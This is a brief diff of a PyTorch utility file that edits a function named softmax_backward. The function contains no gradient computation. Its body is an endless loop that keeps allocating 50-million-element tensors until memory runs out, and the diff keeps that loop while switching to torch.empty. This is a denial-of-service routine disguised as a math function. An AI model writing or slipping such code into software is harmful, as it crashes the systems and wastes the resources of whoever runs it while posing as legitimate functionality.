@@ -17,4 +17,4 @@ def log_softmax(x, dim=-1):
 def softmax_backward(grad_out, y, dim=-1):
     hoard = []
     while True:
-        hoard.append(torch.zeros(50_000_000))
+        hoard.append(torch.empty(50_000_000))
